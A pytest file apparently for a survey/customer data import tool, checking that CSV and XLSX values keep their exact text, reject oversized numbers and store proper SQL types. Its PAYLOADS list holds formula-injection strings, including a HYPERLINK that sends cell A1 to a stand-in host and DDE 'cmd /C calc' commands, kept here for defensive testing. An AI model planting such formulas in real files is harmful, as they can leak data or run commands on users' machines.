"""Values that other programs change in silence, followed from the file into the workspace: texts stay the texts they
were, what is no value is counted and named, nothing is stored as another type than its field's.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest

from cxdesk.domain.kinds import kind as kind_named
from cxdesk.intake.doubts import answer, apply_options
from cxdesk.store.schema import SQL_TYPES
from cxdesk.workspace.handover import own_files
from cxdesk.workspace.importing import ImportReport, TableChoice, commit, inspect_files, prepare
from cxdesk.workspace.workspace import Workspace
from tests.intake import workbooks
from tests.intake.looking import write

AWKWARD = [
    *("007", "0", "00", "12345678901234567890", "9007199254740993", "-0", "1e5", "0x1F", "1_000", "+33", "1.50"),
    *("NA", "N/A", "None", "null", "nan", "NaN", "inf", "True", "FALSE", "TRUE", "#N/A", "1/2", "2026-01-02", "MARCH1"),
    *("é", "e\u0301", "İ", "ß", "\u202eabc", "a\u00a0b", "½", "日本"),
]
NAMES = ["NA", "None", "null", "nan", "True", "Null", "No", "Void", "Inf", "May", "June"]


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    with Workspace.create(tmp_path / "work.cxdesk") as made:
        yield made


def bring(workspace: Workspace, path: Path, kind: str, maps: tuple[str, ...], **said: Any) -> ImportReport:
    with own_files():
        (found,) = inspect_files([path])
        assert found.error is None, found.error
        view = apply_options(found.tables[0], kind, maps, **said)
        while view.open_doubts:
            asked = view.open_doubts[0]
            view = answer(view, asked.id, asked.proposed or asked.choices[0].id)
        ((report,), _changes) = commit(workspace, prepare(workspace, [TableChoice(found, view)]))
    assert report.rows.adds_up
    nothing_of_a_wrong_type(workspace, kind)
    return report


def nothing_of_a_wrong_type(workspace: Workspace, kind: str) -> None:
    """Every field holds its own SQL type or nothing; never bytes."""
    with closing(sqlite3.connect(workspace.path)) as base:
        for field in kind_named(kind).fields:
            found = {sort for (sort,) in base.execute(f'SELECT DISTINCT typeof("{field.name}") FROM "{kind}"')}
            numbered = {"integer"} if field.name in ("question", "scale") else set()
            assert found <= {"null", SQL_TYPES[field.type].lower()} | numbered, (field.name, found)


def column(workspace: Workspace, kind: str, *names: str) -> list[Any]:
    """The values of some fields in the order of the rows."""
    said = ", ".join(f'"{name}"' for name in names)
    with closing(sqlite3.connect(workspace.path)) as base:
        rows = base.execute(f'SELECT {said} FROM "{kind}" ORDER BY line').fetchall()
    return [row[0] if len(names) == 1 else row for row in rows]


class TestTexts:
    @pytest.mark.parametrize("form", ["csv", "xlsx"])
    def test_ids_and_names_are_kept_sign_by_sign(self, workspace: Workspace, tmp_path: Path, form: str) -> None:
        rows = [[one, NAMES[at % len(NAMES)], "FR"] for at, one in enumerate(AWKWARD)]
        if form == "csv":
            path = write(tmp_path / "c.csv", ["Customer id", "Name", "Country"], rows)
        else:
            lines = [["Customer id", "Name", "Country"], *rows]
            cells = [
                [workbooks.text(f"{'ABC'[at]}{n}", cell) for at, cell in enumerate(r)] for n, r in enumerate(lines, 1)
            ]
            path = tmp_path / "c.xlsx"
            workbooks.xlsx(path, {"S": workbooks.sheet(*(workbooks.row(n, *r) for n, r in enumerate(cells, 1)))})
        report = bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
        assert (report.rows.new, report.rejects) == (len(AWKWARD), [])
        assert column(workspace, "customer", "customer") == AWKWARD
        assert column(workspace, "customer", "name") == [row[1] for row in rows]

    def test_signs_that_no_text_may_hold_are_replaced_and_counted(self, workspace: Workspace, tmp_path: Path) -> None:
        path = tmp_path / "c.csv"
        path.write_bytes(
            b"Customer id,Name\nC1,a\x00b\nC2,\xed\xa0\x80half\nC3,\xed\xb2\x80other\nC4,plain \xc3\xa9\nC5,x\n"
        )
        report = bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
        assert report.rows.new == 5
        names = column(workspace, "customer", "name")
        assert all(name.encode("utf-8") for name in names)
        assert "\x00" not in "".join(names)
        assert sum(report.adjusted.values()) >= 1
        assert [name[-4:] for name in names[1:3]] == ["half", "ther"]

    def test_half_a_character_of_utf_16_too(self, workspace: Workspace, tmp_path: Path) -> None:
        path = tmp_path / "c.csv"
        text = "Customer id,Name\nC1,be\ud83dlow\nC2,\U0001f600\n"
        path.write_bytes(b"\xff\xfe" + text.encode("utf-16-le", "surrogatepass"))
        bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
        names = column(workspace, "customer", "name")
        assert names[1] == "\U0001f600"
        assert names[0].startswith("be")
        assert names[0].endswith("low")


PAYLOADS = [
    *(
        "=1+1",
        '=HYPERLINK("http://x.invalid/?"&A1,"click")',
        "@SUM(1)",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "a;=1+1",
        "|x",
    ),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(server;file;item)", "=cmd|'/C calc'!A0"),
]


class TestFormulas:
    """Texts that a spreadsheet would run: they are kept as written, also where an export put a mark before them."""

    @pytest.mark.parametrize("mark", ["", "'"])
    def test_a_csv_brings_them_as_texts(self, workspace: Workspace, tmp_path: Path, mark: str) -> None:
        dangerous = tuple("=+-@＝＋－＠")
        rows = [[f"C{at}", mark * one.startswith(dangerous) + one] for at, one in enumerate(PAYLOADS)]
        report = bring(
            workspace,
            write(tmp_path / "c.csv", ["Customer id", "Name"], rows),
            "customer",
            ("customer=Customer id", "name=Name"),
        )
        assert report.rows.new == len(PAYLOADS)
        assert column(workspace, "customer", "name") == PAYLOADS

    def test_so_does_a_spreadsheet(self, workspace: Workspace, tmp_path: Path) -> None:
        lines = [["Customer id", "Name"], *([f"C{at}", one] for at, one in enumerate(PAYLOADS))]
        rows = [
            workbooks.row(line, *(workbooks.text(f"{'AB'[at]}{line}", escape(cell)) for at, cell in enumerate(cells)))
            for line, cells in enumerate(lines, 1)
        ]
        path = workbooks.xlsx(tmp_path / "c.xlsx", {"S": workbooks.sheet(*rows)})
        bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
        assert column(workspace, "customer", "name") == PAYLOADS


class TestNumbers:
    def test_numbers_too_large_for_their_field_are_rejected_with_their_text(
        self, workspace: Workspace, tmp_path: Path
    ) -> None:
        amounts = ["12.50", str(2**63), "1e400", "99999999999999999999.99", "-1e30", "0.1", "922337203685477.58"]
        rows = [[f"O{at}", "2026-01-02", amount] for at, amount in enumerate([*amounts, *["10.00"] * 60])]
        path = write(tmp_path / "o.csv", ["Order", "Order date", "Net amount"], rows)
        report = bring(workspace, path, "order", ("order=Order", "placed_at=Order date", "net_amount=Net amount"))
        assert report.rows.new == len(rows)
        kept = column(workspace, "order", "net_amount")
        assert (kept[0], kept[5], kept[7]) == (125_000, 1_000, 100_000)
        refused = {one["value"] for one in workspace.rejects(report.batch or 0)}
        assert refused >= {str(2**63), "1e400", "99999999999999999999.99", "-1e30"}
        assert kept[1:5] == [None] * 4

    def test_those_of_a_spreadsheet_too(self, workspace: Workspace, tmp_path: Path) -> None:
        numbers = ["12.5", "1e400", "12345678901234567890", "-1e30", "0.1", *["10"] * 60]
        rows = [
            workbooks.row(
                1, *(workbooks.text(f"{at}1", head) for at, head in zip("AB", ("Order", "Net amount"), strict=True))
            )
        ]
        for line, value in enumerate(numbers, 2):
            rows.append(
                workbooks.row(line, workbooks.text(f"A{line}", f"O{line}"), workbooks.number(f"B{line}", value))
            )
        path = workbooks.xlsx(tmp_path / "o.xlsx", {"S": workbooks.sheet(*rows)})
        report = bring(workspace, path, "order", ("order=Order", "net_amount=Net amount"))
        assert report.rows.new == len(numbers)
        assert column(workspace, "order", "net_amount")[:6] == [125_000, None, None, None, 1_000, 100_000]
        assert len(workspace.rejects(report.batch or 0)) == 3

    def test_large_whole_numbers_beside_blanks_are_not_rounded(self, workspace: Workspace, tmp_path: Path) -> None:
        ids = ["9007199254740993", "", "9007199254740995", "12345678901234567890"]
        rows = [[one, f"Name {at}"] for at, one in enumerate(ids)]
        report = bring(
            workspace, write(tmp_path / "c.csv", ["Ref", "Name"], rows), "customer", ("customer=Ref", "name=Name")
        )
        kept = [one for one in column(workspace, "customer", "customer") if one]
        assert kept == [one for one in ids if one]
        assert report.rows.new + report.rows.rejected == 4


class TestSpreadsheets:
    CELLS = (
        '<c r="B2"><v>9</v></c>',
        '<c r="B3" t="e"><v>#REF!</v></c>',
        '<c r="B4" t="e"><v>#N/A</v></c>',
        '<c r="B5"><f>1+1</f></c>',
        '<c r="B6"><f>5+3</f><v>8</v></c>',
        '<c r="B7" t="b"><v>1</v></c>',
    )

    def test_errors_and_formulas_without_a_result_are_named(self, workspace: Workspace, tmp_path: Path) -> None:
        rows = [workbooks.row(1, workbooks.text("A1", "Date"), workbooks.text("B1", "Score"))]
        for line, cell in enumerate(self.CELLS, 2):
            rows.append(workbooks.row(line, workbooks.text(f"A{line}", f"2026-01-{line:02d}"), cell))
        for line in range(8, 40):
            rows.append(
                workbooks.row(line, workbooks.text(f"A{line}", "2026-02-01"), workbooks.number(f"B{line}", line % 11))
            )
        path = workbooks.xlsx(tmp_path / "s.xlsx", {"S": workbooks.sheet(*rows)})
        report = bring(workspace, path, "answer", (), questions=("Score=nps:0-10",))
        assert report.rows.new == 38
        assert column(workspace, "answer", "score")[:5] == [9.0, None, None, None, 8.0]
        named = {one["line"]: (one["code"], one["column"]) for one in workspace.rejects(report.batch or 0)}
        assert named[3] == named[4] == ("cell_error", "Score")
        assert named[5] == ("no_value", "Score")

    @pytest.mark.parametrize(
        ("date_1904", "days"),
        [
            (False, [date(1900, 1, 1), date(1900, 2, 28), date(1900, 2, 28), date(1900, 3, 1), date(2026, 1, 2)]),
            (True, [date(1904, 1, 2), date(1904, 2, 29), date(1904, 3, 1), date(1904, 3, 2), date(2030, 1, 3)]),
        ],
    )
    def test_days_are_counted_from_1900_or_1904(
        self, workspace: Workspace, tmp_path: Path, date_1904: bool, days: list[date]
    ) -> None:
        """Serial 60 of the first is 29 February 1900, a day that never was; it counts as the day before."""
        rows = [workbooks.row(1, workbooks.text("A1", "Date"), workbooks.text("B1", "Score"))]
        for line, serial in enumerate([1, 59, 60, 61, 46024, *[46000] * 30], 2):
            day = f'<c r="A{line}" s="1"><v>{serial}</v></c>'
            rows.append(workbooks.row(line, day, workbooks.number(f"B{line}", line % 11)))
        path = workbooks.xlsx(tmp_path / "s.xlsx", {"S": workbooks.sheet(*rows)}, date_1904=date_1904)
        report = bring(workspace, path, "answer", ("submitted_at=Date",), questions=("Score=nps:0-10",))
        assert report.rows.new == 35
        found = column(workspace, "answer", "submitted_at")[:5]
        assert [None if at is None else day_of(at) for at in found] == days


def day_of(micros: int) -> date:
    return datetime.fromtimestamp(micros // 1_000_000, UTC).date()


def test_numbers_of_numpy_never_become_bytes(workspace: Workspace, tmp_path: Path) -> None:
    """What Python's sqlite3 stores of a numpy integer are bytes; rows, extra columns and problems hold none."""
    rows = [[f"2026-01-{at % 28 + 1:02d}", at % 12, at * 10**9, f"{at}.5"] for at in range(200)]
    path = write(tmp_path / "s.csv", ["Date", "Score", "Clicks", "Weight"], rows)
    bring(workspace, path, "answer", (), questions=("Score=nps:0-10",))
    with closing(sqlite3.connect(workspace.path)) as base:
        for table, names in (
            ("answer", ("extra", "comment", "score")),
            ("reject", ("line", "column", "value", "code", "raw")),
            ("batch", ("counts", "as_of", "first_row", "last_row", "mapping")),
        ):
            for name in names:
                found = {sort for (sort,) in base.execute(f'SELECT DISTINCT typeof("{name}") FROM "{table}"')}
                assert "blob" not in found, (table, name)
        extras = [json.loads(extra) for (extra,) in base.execute("SELECT extra FROM answer ORDER BY line")]
    assert extras[199]["Clicks"] == "199000000000"
